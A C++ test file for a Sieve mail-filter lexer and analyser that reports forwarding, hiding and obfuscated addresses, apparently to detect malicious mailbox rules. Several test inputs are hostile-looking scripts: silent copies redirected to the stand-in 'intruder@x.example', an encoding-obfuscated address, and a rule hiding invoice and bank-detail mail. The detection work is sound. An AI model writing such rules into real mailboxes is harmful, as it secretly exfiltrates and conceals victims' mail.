#include <doctest/doctest.h>

#include "mail/sieve/lexer.hpp"
#include "mail/sieve/verdict.hpp"

using namespace digue;
using namespace digue::sieve;

namespace {

/// "identifier:if tag:is string:x mark:;"
std::string told(std::string_view script) {
  constexpr std::string_view kinds[] = {"identifier", "tag", "number", "string", "mark"};
  const auto all = tokens(script);
  if (!all) return "line " + all.error().where;
  std::string out;
  for (const auto& one : *all) out += (out.empty() ? "" : " ") + std::string(kinds[static_cast<int>(one.kind)]) + ":" + one.text;
  return out;
}

std::string effects(std::string_view script) {
  std::string out;
  const auto found = verdict(script);
  if (found.unread) return "unread";
  for (const auto& one : found.effects)
    out += (out.empty() ? "" : "; ") + std::string(name(one.kind)) + "=" + one.target + (one.copy ? " copy" : "") +
           (one.conditional ? " if" : "") + (one.computed ? " computed" : "");
  return out;
}

}  // namespace

TEST_CASE("sieve lexer: the lexical rules of RFC 5228, section 2") {
  CHECK(told("") == "");
  CHECK(told("KEEP;") == "identifier:keep mark:;");
  CHECK(told("if size :over 100K { discard; }") ==
        "identifier:if identifier:size tag:over number:100K mark:{ identifier:discard mark:; mark:}");
  CHECK(told("# redirect \"a\";\r\nkeep # b\n;") == "identifier:keep mark:;");
  CHECK(told("/* redirect \"a\";\n * \" */ keep;") == "identifier:keep mark:;");
  CHECK(told("[\"a\",\"b\"] (true, false)") ==
        "mark:[ string:a mark:, string:b mark:] mark:( identifier:true mark:, identifier:false mark:)");
}

TEST_CASE("sieve lexer: strings of both forms") {
  CHECK(told(R"("a\"b\\c\d")") == "string:a\"b\\cd");
  CHECK(told("\"two\r\nlines # no comment\"") == "string:two\r\nlines # no comment");
  CHECK(told("text:\r\none\r\n..two\r\n.\r\n;") == "string:one\r\n.two\r\n mark:;");
  CHECK(told("text: # a comment\n\"one\"; redirect\n.\n;") == "string:\"one\"; redirect\n mark:;");
  CHECK(told("TEXT:\n.\n;") == "string: mark:;");
  CHECK(told("text;") == "identifier:text mark:;");
  CHECK(told("text:\nx\n.") == "string:x\n");
}

TEST_CASE("sieve lexer: what is no token is named with its line") {
  CHECK_FALSE(tokens("keep;\n\"open"));
  CHECK_FALSE(tokens("\"ends in a backslash\\"));
  CHECK_FALSE(tokens("/* open"));
  CHECK_FALSE(tokens("text: x\n.\n"));
  CHECK_FALSE(tokens("text:\nno dot\n"));
  CHECK_FALSE(tokens("keep; $"));
  CHECK_FALSE(tokens("a :"));
  CHECK_FALSE(tokens(std::string_view("keep\0;", 6)));
  CHECK(tokens("keep;\n\n  %").error().where.find('3') != std::string::npos);
}

TEST_CASE("sieve lexer: a token says where it stands") {
  const auto all = tokens("keep;\n  redirect \"x\";").value();
  REQUIRE(all.size() == 5);
  CHECK(all[2].line == 2);
  CHECK(all[2].offset == 8);
  CHECK(all[3].offset == 17);
  CHECK(all[3].length == 3);
}

TEST_CASE("sieve verdict: what a script does with mail, guarded or not") {
  CHECK(effects("require \"copy\"; redirect :copy \"intruder@x.example\";") == "redirect=intruder@x.example copy");
  CHECK(effects("if header :contains \"subject\" [\"facture\", \"rib\"] { fileinto :create \"RSS\"; stop; }") == "fileinto=RSS if");
  CHECK(effects("require [\"imap4flags\"]; addflag [\"\\\\Seen\", \"\\\\Deleted\"]; keep;") == "flag=\\Seen \\Deleted");
  CHECK(effects("vacation :days 1 :addresses [\"a@chu.example\"] :subject \"s\" \"away\";") == "vacation=away");
  CHECK(effects("fileinto :flags [\"\\\\Seen\"] \"Archive\";") == "fileinto=Archive");
  CHECK(effects("notify :importance \"1\" \"mailto:intruder@x.example\";") == "notify=mailto:intruder@x.example");
  CHECK(effects("include :personal \"other\";") == "include=other");
  CHECK(effects("if true { discard; } elsif not true { reject text:\nno\n.\n; } else { keep; }") == "discard= if; reject=no\n if");
  CHECK(effects("# redirect \"a\";\nkeep;") == "");
  CHECK(effects("discard") == "discard=");
}

TEST_CASE("sieve verdict: an address that is hidden is shown, or told as computed") {
  CHECK(effects("require \"encoded-character\"; redirect \"intruder${hex:40}x${unicode: 2e 0065}xample\";") ==
        "redirect=intruder@x.example");
  CHECK(effects("redirect \"intruder${hex:40}x.example\";") == "redirect=intruder${hex:40}x.example");
  CHECK(effects("require \"encoded-character\"; redirect \"${hex:}${hex:4g}${unicode:d800}${unicode:110000}${x}${\";") ==
        "redirect=${hex:}${hex:4g}${unicode:d800}${unicode:110000}${x}${");
  CHECK(effects("require \"variables\"; set \"a\" \"intruder@x.example\"; redirect \"${a}\";") == "redirect=${a} computed");
  CHECK(effects("redirect /* x */ \"a\" # y\n;") == "redirect=a");
}

TEST_CASE("sieve verdict: forwarding and hiding are told apart") {
  CHECK(verdict("redirect \"a\";").forwards());
  CHECK_FALSE(verdict("redirect \"a\";").hides());
  CHECK(verdict("discard;").hides());
  CHECK(verdict("fileinto \"x\";").hides());
  CHECK_FALSE(verdict("fileinto :copy \"x\";").hides());
  CHECK(verdict("addflag \"\\\\seen\";").hides());
  CHECK_FALSE(verdict("addflag \"important\";").hides());
  CHECK(verdict("redirect \"open").unread.has_value());
}

TEST_CASE("sieve verdict: depth costs no stack") {
  std::string deep;
  for (int i = 0; i < 200'000; ++i) deep += "if true {";
  CHECK(effects(deep + "discard;") == "discard= if");
  CHECK(effects(std::string(200'000, '}') + "discard;") == "discard=");
}
